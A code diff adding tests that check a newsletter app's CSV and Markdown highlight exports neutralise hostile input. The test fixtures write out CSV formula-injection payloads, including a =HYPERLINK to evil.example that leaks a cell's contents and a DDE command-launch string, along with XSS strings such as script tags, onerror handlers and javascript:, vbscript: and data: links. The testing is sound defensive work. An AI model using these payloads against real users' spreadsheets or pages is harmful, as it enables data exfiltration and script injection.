@@ -1,4 +1,5 @@
 import { eq } from "drizzle-orm";
+import { marked } from "marked";
 import { describe, expect, it } from "vitest";
 import { getDb } from "@/db/client";
 import { email } from "@/db/schema";
@@ -206,6 +207,70 @@ describe("highlights", () => {
       "Highlight,Title,Author,URL,Note,Location,Date\r\n" +
         `"the & weather: rates went up again, ""quoted""","Rates, ""and"" weather",The Forecast,${link},"Two\nlines",${position},${made.created_at}\r\n`,
     );
+  });
+
+  describe("the exports carry the senders' text, and the reader's notes, as text, never as code", () => {
+    const SUBJECT = '=HYPERLINK("https://evil.example/?leak="&A1,"Open") <img src=x onerror=alert(1)>\n# Owned';
+    const QUOTE = "+SUM(1+1) [click](javascript:alert(1)) <b>bold</b> &#106;s";
+    const NOTE = [
+      "@cmd|' /C calc'!A0 *mine*, and [a link of mine](https://example.com/read)",
+      "<script>alert(1)</script><img src=x onerror=alert(2)>",
+      "# Not a section of the export",
+      "[run](javascript:alert(3)) [also](JavaScript :alert(4)) [data](data:text/html;base64,PHNjcmlwdD4=)",
+      "[ref]: vbscript:msgbox(5)",
+      "[entity](&#106;avascript:alert(6)) <javascript:alert(7)>",
+      "---",
+      "```",
+    ].join("\n");
+
+    async function hostileHighlight() {
+      const user = await registerUser();
+      const newsletterId = await seedNewsletter({ name: "-2+3 <i>Letters</i>\n## Fake" });
+      const seeded = await seedEmail(user.id, { newsletterId, subject: SUBJECT, dateReceived: new Date("2026-03-04T05:06:07Z") });
+      await getDb()
+        .update(email)
+        .set({ bodyHtml: "<p>+SUM(1+1) [click](javascript:alert(1)) &lt;b&gt;bold&lt;/b&gt; &amp;#106;s</p>" })
+        .where(eq(email.id, seeded.id));
+      const made = await create(user, seeded.id, { quote: QUOTE, note: NOTE });
+      expect(made.status).toBe(201);
+      return { user, emailId: seeded.id };
+    }
+
+    it("the Readwise CSV writes a cell starting with = + - @ with a ' in front, so no spreadsheet runs it", async () => {
+      const { user } = await hostileHighlight();
+      const csv = String((await call(csvExport, "/api/users/me/highlights.csv", { cookie: user.cookie })).body);
+      const cells = csv.split("\r\n")[1]!;
+      expect(cells.startsWith("'+SUM(1+1)")).toBe(true);
+      expect(cells).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Open"")`);
+      expect(cells).toContain(`"'-2+3 <i>Letters</i>`);
+      expect(cells).toContain(`"'@cmd|' /C calc'!A0`);
+      // No cell of the row starts a formula: each starts with a quote mark, text, a digit or the ' prefix.
+      const formulaStart = /(^|,)"?[=+\-@\t\r]/;
+      expect(formulaStart.test(cells)).toBe(false);
+    });
+
+    it("the Markdown export escapes the senders' markup, keeps the reader's own, and never links to javascript:", async () => {
+      const { user } = await hostileHighlight();
+      const markdown = String((await call(markdownExport, "/api/users/me/highlights.md", { cookie: user.cookie })).body);
+      expect(markdown).not.toMatch(/(javascript|vbscript|data):/i);
+      const html = marked.parse(markdown, { gfm: true, headerIds: false, mangle: false });
+      // Headings: the export's own, one for the issue.
+      expect(html.match(/<h[1-6][^>]*>/g)).toEqual(["<h1>", "<h2>"]);
+      // No element came from anyone's text: no script, image, bold or italic of the sender's, no HTML of the note.
+      expect(html).not.toMatch(/<(script|img|b|i)[\s>]/i);
+      // The links are the export's own and the reader's web links; what is left of the note's others goes nowhere.
+      const hrefs = [...html.matchAll(/href="([^"]*)"/g)].map((match) => match[1]!.replace(/&amp;/g, "&"));
+      expect(hrefs.filter((href) => /^https?:/.test(href))).toEqual([expect.stringMatching(/\/emails\/\d+$/), "https://example.com/read"]);
+      for (const href of hrefs) expect(/^https?:\/\//.test(href) || !/^\s*[a-z][a-z0-9+.-]*\s*:/i.test(href), href).toBe(true);
+      // What the sender wrote reads as they wrote it, and the reader's own Markdown still renders.
+      expect(html).toContain(
+        "=HYPERLINK(&quot;https://evil.example/?leak=&quot;&amp;A1,&quot;Open&quot;) &lt;img src=x onerror=alert(1)&gt; # Owned</h2>",
+      );
+      expect(html).toContain("[click](javascript");
+      expect(html).toContain("&lt;b&gt;bold&lt;/b&gt;");
+      expect(html).toContain("<em>mine</em>");
+      expect(html).toContain("-2+3 &lt;i&gt;Letters&lt;/i&gt; ## Fake");
+    });
   });
 
   it("the exports of a reader with no highlights hold only the heading", async () => {
